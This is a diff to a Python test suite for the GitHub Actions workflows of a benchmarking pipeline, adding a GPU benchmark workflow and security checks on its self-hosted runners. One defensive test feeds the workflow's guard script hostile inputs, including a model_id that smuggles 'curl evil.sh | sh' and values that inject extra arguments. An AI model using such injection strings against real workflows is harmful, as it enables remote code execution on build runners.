@@ -27,10 +27,13 @@ from pipeline.queue import MAX_CHUNK, build_queue
 from tests import ROOT
 
 WORKFLOWS = ROOT / ".github" / "workflows"
-NAMES = ("ci", "discover", "benchmark", "publish", "submission", "page")
+NAMES = ("ci", "discover", "benchmark", "benchmark-gpu", "publish", "submission", "page")
 PR_TRIGGERS = {"pull_request", "pull_request_target", "workflow_run", "issue_comment"}
 REMOTE_USES = re.compile(r"^[\w.-]+/[\w./-]+@(?P<ref>[^\s#]+)$")
 LABEL = re.compile(r"^trn2-(lnc1-)?[0-9]+c$")
+GPU_LABEL = re.compile(r"^gpu-[0-9]+g$")
+#: The self-hosted runner classes: workflow -> the label after self-hosted, linux (runners/README.md).
+RUNNER_CLASSES = {"benchmark": "trn2", "benchmark-gpu": "gpu"}
 
 
 @functools.cache
@@ -131,7 +134,7 @@ def test_expressions_reach_the_shell_only_through_env() -> None:
 def test_every_workflow_has_a_concurrency_group_and_publish_never_cancels() -> None:
     for name in NAMES:
         assert load(name)["concurrency"]["group"], name
-    for name in ("publish", "discover", "benchmark"):
+    for name in ("publish", "discover", "benchmark", "benchmark-gpu"):
         assert load(name)["concurrency"]["cancel-in-progress"] is False, name
 
 
@@ -158,14 +161,16 @@ def test_secrets_reach_only_the_publish_step_through_its_environment() -> None:
 
 def test_no_self_hosted_job_holds_a_secret_or_is_reachable_from_a_pull_request() -> None:
     self_hosted = [(n, j) for n in NAMES for j, job in jobs(n).items() if is_self_hosted(job)]
-    assert {n for n, _ in self_hosted} == {"benchmark"} and len(self_hosted) == 2
+    # Two runner classes, the same rules: trn2 (benchmark.yml) and the GPUs of the Compare view (benchmark-gpu.yml).
+    assert {n for n, _ in self_hosted} == set(RUNNER_CLASSES) and len(self_hosted) == 4
     for name, job_id in self_hosted:
         job = jobs(name)[job_id]
         assert "secrets." not in json.dumps(job) and "environment" not in job, f"{name} {job_id}"
         reaching = reaching_triggers(name)
         assert not reaching & PR_TRIGGERS, f"{name}.yml {job_id} is reachable from {reaching & PR_TRIGGERS}"
-        assert runs_on_labels(job)[:3] == ["self-hosted", "linux", "trn2"]
-    assert reaching_triggers("benchmark") == {"schedule", "workflow_dispatch"}
+        assert runs_on_labels(job)[:3] == ["self-hosted", "linux", RUNNER_CLASSES[name]]
+    for name in RUNNER_CLASSES:
+        assert reaching_triggers(name) == {"schedule", "workflow_dispatch"}, name
 
 
 def test_pull_request_workflows_run_on_github_hosted_runners_only() -> None:
@@ -192,7 +197,7 @@ def test_logs_use_groups_and_errors() -> None:
     for name in NAMES:
         text = (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8")
         assert "::group::" in text and "::endgroup::" in text, name
-    for name in ("benchmark", "publish", "submission"):
+    for name in ("benchmark", "benchmark-gpu", "publish", "submission"):
         assert "::error::" in (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8"), name
 
 
@@ -219,6 +224,19 @@ def test_benchmark_runs_the_neuron_smoke_tests_once_before_its_matrix() -> None:
     assert set(triggers("benchmark")) == {"workflow_call", "workflow_dispatch"}
 
 
+def test_benchmark_gpu_runs_the_cuda_smoke_tests_once_then_benches_on_cuda() -> None:
+    bench = jobs("benchmark-gpu")["bench"]
+    assert "smoke" in bench["needs"] and "strategy" not in jobs("benchmark-gpu")["smoke"]
+    assert any("pytest -m cuda" in s.get("run", "") for s in jobs("benchmark-gpu")["smoke"]["steps"])
+    assert runs_on_labels(bench) == ["self-hosted", "linux", "gpu", "${{ matrix.runner }}"]
+    assert bench["strategy"]["fail-fast"] is False
+    assert step("benchmark-gpu", "bench", "bench")["env"]["DEVICE"] == "cuda"
+    assert set(triggers("benchmark-gpu")) == {"workflow_call", "workflow_dispatch"}
+    # Its toolchain is its own file: a Neuron version would never match a cuda row, so nothing would be measured.
+    environment = " ".join(s.get("run", "") for s in bench["steps"])
+    assert "runners/toolchain-gpu.yaml" in environment and "runners/toolchain.yaml" not in environment
+
+
 def test_discover_runs_daily_at_an_odd_minute_and_takes_tasks_views_limit() -> None:
     (schedule,) = load("discover")["on"]["schedule"]
     minute, hour, *rest = schedule["cron"].split()
@@ -229,6 +247,13 @@ def test_discover_runs_daily_at_an_odd_minute_and_takes_tasks_views_limit() -> N
 def test_discover_calls_benchmark_once_per_possible_chunk_then_publish() -> None:
     max_chunks = int(step("discover", "discover", "split")["env"]["MAX_CHUNKS"])
     calls = {j: job for j, job in jobs("discover").items() if job.get("uses", "").startswith("./.github/workflows/b")}
+    gpu = calls.pop("bench-gpu")  # the GPU runners' one chunk (the Selected list's gpu models)
+    assert gpu["uses"].split()[0] == "./.github/workflows/benchmark-gpu.yml"
+    assert gpu["if"] == "${{ fromJSON(needs.discover.outputs.gpu-chunks) > 0 }}"
+    assert gpu["with"] == {"matrix": "${{ needs.discover.outputs.gpu-chunk-0 }}", "chunk": 0}
+    assert {"gpu-chunks", "gpu-chunk-0"} <= set(jobs("discover")["discover"]["outputs"])
+    queue_gpu = step("discover", "discover", "queue-gpu")["run"]
+    assert "--device cuda" in queue_gpu and "--toolchain runners/toolchain-gpu.yaml" in queue_gpu
     assert sorted(calls) == [f"bench-{k}" for k in range(max_chunks)]
     for k in range(max_chunks):
         job = calls[f"bench-{k}"]
@@ -237,7 +262,7 @@ def test_discover_calls_benchmark_once_per_possible_chunk_then_publish() -> None
         assert f"chunk-{k}" in jobs("discover")["discover"]["outputs"]
     publish = jobs("discover")["publish"]
     assert publish["uses"].split()[0] == "./.github/workflows/publish.yml"
-    assert set(publish["needs"]) == {"discover", *calls} and "!cancelled()" in publish["if"]
+    assert set(publish["needs"]) == {"discover", "bench-gpu", *calls} and "!cancelled()" in publish["if"]
 
 
 def test_page_runs_on_a_schedule_and_on_demand_from_the_dataset_main() -> None:
@@ -281,9 +306,9 @@ def _queue_chunks(count: int) -> list[dict[str, Any]]:
     return build_queue(candidates=candidates, dataset_root=None, toolchain=toolchain, planner=_planner).chunks
 
 
-def _matrix_step(matrix: str) -> subprocess.CompletedProcess[str]:
-    """Run benchmark.yml's `matrix` step script (the guard in front of the self-hosted jobs) on ``matrix``."""
-    s = jobs("benchmark")["matrix"]["steps"][0]
+def _matrix_step(matrix: str, workflow: str = "benchmark") -> subprocess.CompletedProcess[str]:
+    """Run a benchmark workflow's `matrix` step script (the guard in front of the self-hosted jobs) on ``matrix``."""
+    s = jobs(workflow)["matrix"]["steps"][0]
     env = {"PATH": os.environ["PATH"], "CALLER_MATRIX": matrix}
     env |= {"GITHUB_OUTPUT": os.devnull, "GITHUB_STEP_SUMMARY": os.devnull}
     return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", s["run"]],
@@ -323,6 +348,53 @@ def test_benchmark_matrix_guard_accepts_queue_chunks_and_refuses_hostile_entries
         assert result.returncode == 1 and "::error::bad entry" in result.stdout, bad
     assert _matrix_step(json.dumps({"include": [good] * (MAX_CHUNK + 1)})).returncode == 1
     assert _matrix_step("not json").returncode == 1
+
+
+def _gpu_queue_chunks(count: int) -> list[dict[str, Any]]:
+    from pipeline.prices import load_prices
+
+    candidates = [
+        Candidate(model_id=f"{'sml'[i % 3]}org/model-{i}", task="text-generation", view="selected", rank=i + 1,
+                  sha=f"{i:040x}")
+        for i in range(count)
+    ]  # fmt: skip
+    h200 = load_prices()["p5en.48xlarge"].accelerators
+    return build_queue(candidates=candidates, dataset_root=None, toolchain={"transformers": "5.24.0"},
+                       planner=_planner, device="cuda", instance="p5en.48xlarge", accelerators=h200).chunks  # fmt: skip
+
+
+def test_gpu_queue_matrix_fits_benchmark_gpu_and_its_runner_labels() -> None:
+    (chunk,) = _gpu_queue_chunks(9)
+    used = set(re.findall(r"(?<![\w.])matrix\.(\w+)", json.dumps(jobs("benchmark-gpu")["bench"])))
+    dispatch = set(load("benchmark-gpu")["on"]["workflow_dispatch"]["inputs"]["runner"]["options"])
+    labels = set()
+    for entry in chunk["include"]:
+        assert used <= set(entry), f"benchmark-gpu.yml reads matrix keys the queue does not emit: {used - set(entry)}"
+        assert GPU_LABEL.match(entry["runner"]) and entry["runner"] in dispatch and entry["device"] == "cuda"
+        assert entry["artifact"].endswith("--cuda")  # never the name of the same model's trn2 artifact
+        labels.add(entry["runner"])
+    assert labels == {"gpu-1g", "gpu-2g"}  # the 70B plan needs two 141 GB H200s
+
+
+@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed (GitHub's runners have it)")
+def test_benchmark_gpu_matrix_guard_accepts_gpu_chunks_and_refuses_hostile_entries() -> None:
+    (chunk,) = _gpu_queue_chunks(5)
+    assert _matrix_step(json.dumps(chunk), "benchmark-gpu").returncode == 0
+    good = chunk["include"][0]
+    for bad in (
+        {"model_id": "org/m; curl evil.sh | sh"},
+        {"runner": "trn2-1c"},  # a GPU job never reaches a trn2 runner, nor the reverse (the trn2 guard's pattern)
+        {"runner": "ubuntu-latest"},
+        {"device": "neuron"},
+        {"revision": "main"},
+        {"artifact": "acme--m--text-generation--0123456789ab"},  # a trn2 artifact's name
+        {"cores": "1 --device cpu"},
+        {"model_id": "org/m\n"},
+    ):
+        result = _matrix_step(json.dumps({"include": [good | bad]}), "benchmark-gpu")
+        assert result.returncode == 1 and "::error::bad entry" in result.stdout, bad
+    # A GPU chunk is no trn2 chunk: benchmark.yml's guard refuses its labels.
+    assert _matrix_step(json.dumps(chunk)).returncode == 1
 
 
 # -- audit tools ------------------------------------------------------------------------------------------
@@ -415,5 +487,5 @@ def test_workflow_task_choices_follow_the_task_registry() -> None:
 
     discover_tasks = load("discover")["on"]["workflow_dispatch"]["inputs"]["tasks"]["options"]
     assert discover_tasks == ["all", *TASKS]
-    bench_tasks = load("benchmark")["on"]["workflow_dispatch"]["inputs"]["task"]["options"]
-    assert bench_tasks == list(TASKS)
+    for name in RUNNER_CLASSES:
+        assert load(name)["on"]["workflow_dispatch"]["inputs"]["task"]["options"] == list(TASKS), name
